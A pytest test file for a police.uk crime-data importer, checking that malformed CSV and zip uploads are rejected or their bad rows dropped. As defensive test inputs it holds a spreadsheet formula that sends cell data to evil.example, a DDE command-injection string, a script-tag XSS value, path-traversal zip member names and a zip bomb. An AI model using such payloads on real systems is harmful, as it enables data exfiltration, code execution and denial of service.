"""A corpus of bad police.uk inputs: each is rejected (database untouched) or its bad rows dropped and counted.

The database is seeded with two wards and one good month first, so "untouched" is checked against a
database that holds something: incident and import counts, the partitions, the data version and the
content of every incident row must all be exactly as before a rejected import.
"""

from __future__ import annotations

import io
import zipfile

import pytest

from rc_dashboard import cli
from rc_dashboard.db import data_version, read_frame
from rc_dashboard.ingest import files, store
from rc_dashboard.ingest.files import InputFile, files_from_paths
from rc_dashboard.ingest.importers import import_police
from rc_dashboard.ingest.police_uk import normalise_police, read_police_csv
from rc_dashboard.ingest.validation import ImportRejected, ValidationReport

HEADER = (
    "Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,"
    "Crime type,Last outcome category,Context"
)
FILE = "2024-01-test-street.csv"
FORCE = "Test Police"
# Police.uk-style points (6 decimals) inside the two_wards fixture: BNG (400500, 298500) and (401500, 298500).
WEST = ("-1.994053", "52.584308")
EAST = ("-1.979294", "52.584306")
ASB = "Anti-social behaviour"
MONTH_MISMATCH = "month does not match the file name's 2024-01"


def row(
    crime_id: str = "c1",
    month: str = "2024-01",
    point: tuple[str, str] = WEST,
    location: str = "On or near Mill Lane",
    crime_type: str = "Burglary",
    outcome: str = "Under investigation",
) -> str:
    lon, lat = point
    return ",".join(
        [crime_id, month, FORCE, FORCE, lon, lat, location, "E01010268", "Walsall 021B", crime_type, outcome, ""]
    )


def asb(month: str = "2024-01", point: tuple[str, str] = WEST, location: str = "On or near Park") -> str:
    return row("", month, point, location, ASB, "")


def police_csv(*rows: str, header: str = HEADER) -> bytes:
    return ("\n".join([header, *rows]) + "\n").encode("utf-8")


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def snapshot(engine) -> dict:
    """Everything a rejected import must leave alone."""
    counts = read_frame(
        engine,
        "SELECT (SELECT COUNT(*) FROM incidents) AS incidents, (SELECT COUNT(*) FROM imports) AS imports, "
        "(SELECT COUNT(*) FROM partitions) AS partitions",
    ).iloc[0]
    content = read_frame(
        engine,
        "SELECT source, source_ref, force, month, category, ward_code, location, outcome, import_id FROM incidents",
    )
    return {
        "incidents": int(counts["incidents"]),
        "imports": int(counts["imports"]),
        "partitions": int(counts["partitions"]),
        "version": data_version(engine),
        "rows": sorted(tuple(str(v) for v in r) for r in content.itertuples(index=False)),
    }


def incidents(engine, where: str = "1 = 1") -> list[tuple]:
    frame = read_frame(
        engine,
        f"SELECT source_ref, month, category, ward_code, location, outcome FROM incidents WHERE {where} "
        "ORDER BY source_ref, location",
    )
    return [tuple(r) for r in frame.itertuples(index=False)]


def seed(engine, two_wards):
    """Two wards and December 2023 (two crimes and one ASB row) loaded into ``engine``."""
    store.store_wards(engine, two_wards, file_name="wards.geojson", sha256="0" * 64)
    december = police_csv(
        row("d1", "2023-12", WEST), row("d2", "2023-12", EAST), asb("2023-12", EAST, "On or near Station")
    )
    result = import_police(engine, [InputFile("2023-12-test-street.csv", december)])
    assert (result.rows_inserted, result.rows_dropped) == (3, 0)
    before = snapshot(engine)
    assert (before["incidents"], before["imports"], before["partitions"], before["version"]) == (3, 2, 1, 2)
    return engine


@pytest.fixture
def seeded(engine, two_wards):
    """On every backend: for writes, idempotence and all-or-nothing."""
    return seed(engine, two_wards)


@pytest.fixture
def seeded_sqlite(sqlite_engine, two_wards):
    """SQLite only: for files rejected before the database is touched."""
    return seed(sqlite_engine, two_wards)


def rejected(engine, inputs: list[InputFile]) -> list:
    """Import ``inputs``, expecting a rejection; returns the problems."""
    with pytest.raises(ImportRejected) as caught:
        import_police(engine, inputs)
    return caught.value.report.problems


GOOD_ROWS = (row("c1"), row("c2", point=EAST))
BAD_FILES = {
    "missing column": (
        police_csv(*(r.rsplit(",", 3)[0] + ",," for r in GOOD_ROWS), header=HEADER.replace("Crime type,", "")),
        [(FILE, None, None, "missing column(s) 'Crime type'; found 'Crime ID', 'Month'")],
    ),
    "renamed column": (
        police_csv(*GOOD_ROWS, header=HEADER.replace("Crime type", "Offence")),
        [(FILE, None, None, "missing column(s) 'Crime type'; found ")],
    ),
    "swapped lat/lon": (
        police_csv(row("c1", point=WEST[::-1]), row("c2", point=EAST[::-1])),
        [(FILE, None, "Longitude", "Longitude and Latitude look swapped")],
    ),
    "empty file": (b"", [(FILE, None, None, "the file is empty.")]),
    "blank lines only": (b"\r\n\r\n", [(FILE, None, None, "the file is empty.")]),
    "header only": (police_csv(), [(FILE, None, None, "the file has a header but no rows.")]),
    "cp1252 bytes on row 3": (
        police_csv(row("c1"), row("c2", location="On or near Café Lane")).replace("é".encode(), b"\xe9"),
        [(FILE, 3, None, "the file is not UTF-8 text")],
    ),
    "month not matching the file name": (
        police_csv(row("c1"), row("c2", "2024-02"), row("c3", "2024-02"), row("c4")),
        [(FILE, 3, "Month", MONTH_MISMATCH), (FILE, 4, "Month", MONTH_MISMATCH)],
    ),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_bad_file_is_rejected_with_file_row_column_and_nothing_changes(seeded_sqlite, case):
    data, expected = BAD_FILES[case]
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile(FILE, data)])
    rejections = [p for p in problems if p.action == "reject"]
    assert len(rejections) == len(expected)
    for problem, (file, row_number, column, reason) in zip(rejections, expected, strict=True):
        assert (problem.file, problem.row, problem.column, problem.action) == (file, row_number, column, "reject")
        assert reason in problem.reason
    assert snapshot(seeded_sqlite) == before


def test_a_whole_file_of_renamed_columns_lists_what_it_found(seeded_sqlite):
    problems = rejected(
        seeded_sqlite, [InputFile(FILE, police_csv(*GOOD_ROWS, header=HEADER.replace("Crime type", "Offence")))]
    )
    assert "'Offence'" in problems[0].reason and "'Crime type'" in problems[0].reason
    assert problems[0].reason.endswith("Is this a data.police.uk street-level file?")


def test_non_numeric_coordinates_drop_the_row_and_count_it(seeded_sqlite):
    data = police_csv(row("c1"), row("c2", point=("abc", WEST[1])), row("c3", point=(EAST[0], "n/a")), row("c4"))
    report = ValidationReport()
    normalise_police(read_police_csv(data, FILE, report), FILE, report)
    assert [(p.file, p.row, p.column, p.action) for p in report.problems] == [
        (FILE, 3, "Longitude", "drop"),
        (FILE, 4, "Latitude", "drop"),
    ]
    result = import_police(seeded_sqlite, [InputFile(FILE, data)])
    assert (result.rows_read, result.rows_inserted, result.rows_dropped) == (4, 2, 2)
    assert result.dropped_by_reason == {"coordinate is not a number": 2}
    assert [r[0] for r in incidents(seeded_sqlite, "month = '2024-01'")] == ["c1", "c4"]


def test_repeated_crime_id_is_kept_as_a_separate_row_and_an_exact_repeat_is_dropped(seeded_sqlite):
    # police.uk publishes some Crime IDs twice with different details: both are real published rows.
    data = police_csv(
        row("c1", location="First"), row("c2"), row("c1", location="Second"), row("c1", location="Second")
    )
    report = ValidationReport()
    normalise_police(read_police_csv(data, FILE, report), FILE, report)
    assert [(p.row, p.column, p.action) for p in report.problems] == [(5, "Crime ID", "drop"), (4, "Crime ID", "note")]
    result = import_police(seeded_sqlite, [InputFile(FILE, data)])
    assert (result.rows_read, result.rows_inserted, result.rows_dropped) == (4, 3, 1)
    assert result.dropped_by_reason == {"exact repeat of an earlier row (dropped)": 1}
    assert sorted((r[0], r[4]) for r in incidents(seeded_sqlite, "month = '2024-01'")) == [
        ("c1", "First"),
        ("c1#2", "Second"),
        ("c2", "On or near Mill Lane"),
    ]
    again = import_police(seeded_sqlite, [InputFile(FILE, data)])
    assert (again.rows_inserted, again.rows_unchanged) == (0, 3), "the #2 key is stable, so a re-import is unchanged"


def test_zip_with_a_member_leaving_the_archive_is_rejected_before_anything_is_read(seeded_sqlite):
    # If the good-looking member were read, its 2024-02 row would add a month problem of its own.
    archive = zipped(
        {"../x.csv": police_csv(row()), "2024-01/2024-01-test-street.csv": police_csv(row("c9", "2024-02"))}
    )
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile("upload.zip", archive)])
    assert [(p.file, p.row, p.column, p.action) for p in problems] == [("upload.zip", None, None, "reject")]
    assert problems[0].reason == "the archive contains a path that leaves the archive (../x.csv); it was not opened."
    assert snapshot(seeded_sqlite) == before


@pytest.mark.parametrize("member", ["/etc/x.csv", "C:/x.csv", "2024-01/../../x.csv"])
def test_absolute_and_climbing_member_paths_are_rejected(seeded_sqlite, member):
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile("upload.zip", zipped({member: police_csv(row())}))])
    assert len(problems) == 1 and f"leaves the archive ({member})" in problems[0].reason
    assert snapshot(seeded_sqlite) == before


def test_zip_bomb_member_is_rejected(seeded_sqlite):
    bomb = police_csv(row()) + b"\n" * (4 * 1024**2)  # 4 MiB that deflate to a few KiB
    archive = zipped({"2024-01/2024-01-test-street.csv": bomb})
    member = zipfile.ZipFile(io.BytesIO(archive)).infolist()[0]
    assert member.file_size / member.compress_size > files.MAX_COMPRESSION_RATIO
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile("bomb.zip", archive)])
    assert [(p.file, p.row, p.action) for p in problems] == [("bomb.zip", None, "reject")]
    assert "looks like a decompression bomb" in problems[0].reason
    assert snapshot(seeded_sqlite) == before


def test_archive_expanding_past_the_total_limit_is_rejected(seeded_sqlite, monkeypatch):
    monkeypatch.setattr(files, "MAX_ARCHIVE_UNCOMPRESSED_BYTES", 1000)
    archive = zipped({f"2024-01/part{n}-2024-01-test-street.csv": police_csv(*GOOD_ROWS) for n in range(6)})
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile("big.zip", archive)])
    assert len(problems) == 1 and problems[0].reason.startswith("the archive would expand to")
    assert snapshot(seeded_sqlite) == before


def test_oversized_upload_is_rejected(seeded_sqlite, monkeypatch):
    data = police_csv(*GOOD_ROWS)
    monkeypatch.setattr(files, "MAX_FILE_BYTES", len(data) - 1)
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile(FILE, data)])
    assert [(p.file, p.row, p.column, p.action) for p in problems] == [(FILE, None, None, "reject")]
    assert "limit" in problems[0].reason
    assert snapshot(seeded_sqlite) == before


def test_oversized_file_on_disk_is_refused_before_it_is_read(tmp_path, monkeypatch):
    path = tmp_path / FILE
    path.write_bytes(police_csv(*GOOD_ROWS))
    monkeypatch.setattr(files, "MAX_FILE_BYTES", path.stat().st_size - 1)
    report = ValidationReport()
    assert files_from_paths([path], report, (".csv",)) == []
    assert [(p.file, p.action) for p in report.problems] == [(str(path), "reject")]


def test_oversized_member_inside_a_zip_is_rejected(seeded_sqlite, monkeypatch):
    data = police_csv(*(row(f"c{n}") for n in range(40)))
    archive = zipped({"2024-01/2024-01-test-street.csv": data})
    monkeypatch.setattr(files, "MAX_FILE_BYTES", len(archive) + 100)  # the zip passes, its member does not
    assert len(data) > files.MAX_FILE_BYTES
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile("upload.zip", archive)])
    assert problems[0].file.startswith("upload.zip") and "limit" in problems[0].reason
    assert snapshot(seeded_sqlite) == before


def test_not_a_zip_is_rejected(seeded_sqlite):
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile("upload.zip", police_csv(*GOOD_ROWS))])
    assert [(p.file, p.reason) for p in problems] == [("upload.zip", "the file is not a valid zip archive.")]
    assert snapshot(seeded_sqlite) == before


def test_damaged_zip_member_is_rejected_not_a_crash(seeded_sqlite):
    archive = bytearray(zipped({"2024-01/2024-01-test-street.csv": police_csv(*(row(f"c{n}") for n in range(20)))}))
    start = archive.index(b"2024-01-test-street.csv") + len("2024-01-test-street.csv")
    archive[start + 5] ^= 0xFF  # a byte of the deflated data
    before = snapshot(seeded_sqlite)
    problems = rejected(seeded_sqlite, [InputFile("damaged.zip", bytes(archive))])
    assert problems[0].file == "damaged.zip" and problems[0].action == "reject"
    assert snapshot(seeded_sqlite) == before


def test_formula_and_html_in_location_are_stored_verbatim_as_text(seeded):
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
    script = "<script>alert('x')</script>"
    data = police_csv(
        row("f1", location='"' + formula.replace('"', '""') + '"'),
        row("f2", location=script, outcome="<b>bold</b>"),
        row("f3", location="+cmd|' /C calc'!A0"),
    )
    result = import_police(seeded, [InputFile(FILE, data)])
    assert (result.rows_inserted, result.rows_dropped) == (3, 0)
    stored = {r[0]: (r[4], r[5]) for r in incidents(seeded, "month = '2024-01'")}
    assert stored == {
        "f1": (formula, "Under investigation"),
        "f2": (script, "<b>bold</b>"),
        "f3": ("+cmd|' /C calc'!A0", "Under investigation"),
    }


def test_batch_with_a_bad_second_file_writes_nothing_from_the_first(seeded):
    good = InputFile("2024-01-test-street.csv", police_csv(row("c1"), row("c2", point=EAST), asb()))
    bad = InputFile("2024-02-test-street.csv", police_csv(row("e1", "2024-02"), row("e2", "2024-03")))
    before = snapshot(seeded)
    problems = rejected(seeded, [good, bad])
    assert [(p.file, p.row, p.column) for p in problems] == [("2024-02-test-street.csv", 3, "Month")]
    assert problems[0].reason == "month does not match the file name's 2024-02"
    assert snapshot(seeded) == before


def test_failure_while_writing_rolls_back_the_whole_batch(seeded, monkeypatch):
    def fail(*_args, **_kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(store, "_replace_partitions", fail)  # after the crimes were upserted
    batch = [
        InputFile("2024-01-test-street.csv", police_csv(row("c1"), asb())),
        InputFile("2024-02-test-street.csv", police_csv(row("c2", "2024-02"), asb("2024-02"))),
    ]
    before = snapshot(seeded)
    with pytest.raises(RuntimeError, match="disk full"):
        import_police(seeded, batch)
    assert snapshot(seeded) == before


def test_same_file_twice_in_one_zip_is_counted_once(seeded):
    data = police_csv(row("c1"), row("c2", point=EAST), asb(), asb(point=EAST))
    archive = zipped({"2024-01/2024-01-test-street.csv": data, "copy/2024-01-test-street.csv": data})
    result = import_police(seeded, [InputFile("download.zip", archive)])
    assert (result.rows_read, result.rows_inserted, result.rows_dropped) == (4, 4, 0)
    january = incidents(seeded, "month = '2024-01'")
    assert len(january) == 4 and sum(r[2] == ASB for r in january) == 2


def test_importing_the_same_file_twice_changes_nothing_the_second_time(seeded):
    item = InputFile(FILE, police_csv(row("c1"), row("c2", point=EAST), asb(), asb(point=EAST)))
    first = import_police(seeded, [item])
    assert (first.rows_inserted, first.rows_updated, first.rows_unchanged) == (4, 0, 0)
    after_first = snapshot(seeded)
    second = import_police(seeded, [item])
    assert (second.rows_read, second.rows_inserted, second.rows_updated, second.rows_unchanged) == (4, 0, 0, 4)
    after_second = snapshot(seeded)
    assert after_second["version"] == after_first["version"]
    assert after_second["rows"] == after_first["rows"] and after_second["incidents"] == 7
    assert after_second["imports"] == after_first["imports"] + 1  # the attempt is still recorded


def test_republished_month_updates_outcomes_without_duplicating(seeded):
    first = police_csv(row("c1"), row("c2", point=EAST), row("c3"), asb())
    import_police(seeded, [InputFile(FILE, first)])
    version = data_version(seeded)
    republished = police_csv(
        row("c1", outcome="Offender given a caution"),
        row("c2", point=EAST),
        row("c3", outcome="Awaiting court outcome"),
        asb(),
    )
    result = import_police(seeded, [InputFile(FILE, republished)])
    assert (result.rows_inserted, result.rows_updated, result.rows_unchanged) == (0, 2, 2)
    assert [(r[0], r[5]) for r in incidents(seeded, "month = '2024-01' AND source_ref IS NOT NULL")] == [
        ("c1", "Offender given a caution"),
        ("c2", "Under investigation"),
        ("c3", "Awaiting court outcome"),
    ]
    assert snapshot(seeded)["incidents"] == 3 + 4
    assert data_version(seeded) == version + 1


def test_republished_asb_with_one_fewer_row_replaces_the_force_month(seeded):
    import_police(
        seeded, [InputFile(FILE, police_csv(row("c1"), asb(location="A"), asb(location="B"), asb(location="C")))]
    )
    version = data_version(seeded)
    result = import_police(seeded, [InputFile(FILE, police_csv(row("c1"), asb(location="A"), asb(location="C")))])
    assert (result.rows_inserted, result.rows_updated, result.rows_unchanged) == (2, 0, 1)
    assert [r[4] for r in incidents(seeded, f"month = '2024-01' AND category = '{ASB}'")] == ["A", "C"]
    assert [r[4] for r in incidents(seeded, f"month = '2023-12' AND category = '{ASB}'")] == ["On or near Station"]
    assert snapshot(seeded)["incidents"] == 3 + 3
    assert data_version(seeded) == version + 1


def test_crime_id_repeated_in_a_later_file_names_the_file_and_row_dropped(seeded_sqlite, monkeypatch):
    captured = []
    original = ValidationReport.add_rows

    def spy(self, file, rows, column, reason, action, header_rows=1):
        original(self, file, rows, column, reason, action, header_rows)
        if reason.startswith("also in a later file"):
            captured.extend(p for p in self.problems if p.reason == reason)

    monkeypatch.setattr(ValidationReport, "add_rows", spy)
    first = InputFile("2024-01-test-street.csv", police_csv(row("c1"), row("c2"), row("c3")))
    second = InputFile("2024-02-test-street.csv", police_csv(row("c3", "2024-02")))
    result = import_police(seeded_sqlite, [first, second])
    assert (result.rows_inserted, result.rows_dropped) == (3, 1)
    assert [(p.file, p.row) for p in captured] == [("2024-01-test-street.csv", 4)]


def test_cli_exits_2_and_prints_row_and_column(seeded_sqlite, tmp_path, capsys):
    path = tmp_path / FILE
    path.write_bytes(police_csv(row("c1"), row("c2", "2024-02"), row("c3", point=("x", WEST[1])), row("c4", "2023-13")))
    before = snapshot(seeded_sqlite)
    url = seeded_sqlite.url.render_as_string(hide_password=False)
    assert cli.main(["import", "police", str(path), "--db", url]) == cli.EXIT_USER_ERROR
    err = capsys.readouterr().err
    lines = err[err.index("Error: ") :].splitlines()
    assert lines[0] == "Error: nothing was imported; 3 problem(s) found:"
    assert sorted(lines[1:]) == [
        f"  {path}, row 3, column 'Month': {MONTH_MISMATCH}",
        f"  {path}, row 4, column 'Longitude': coordinate is not a number",
        f"  {path}, row 5, column 'Month': month is not in the form YYYY-MM",
    ]
    assert "Traceback" not in err
    assert snapshot(seeded_sqlite) == before


def test_cli_error_starts_on_its_own_line(sqlite_engine, tmp_path, capsys):
    path = tmp_path / FILE
    path.write_bytes(police_csv(row("c1", "2024-02")))
    url = sqlite_engine.url.render_as_string(hide_password=False)
    assert cli.main(["import", "police", str(path), "--db", url]) == cli.EXIT_USER_ERROR
    err_lines = capsys.readouterr().err.replace("\r", "\n").splitlines()
    assert "Error: nothing was imported; 1 problem(s) found:" in err_lines
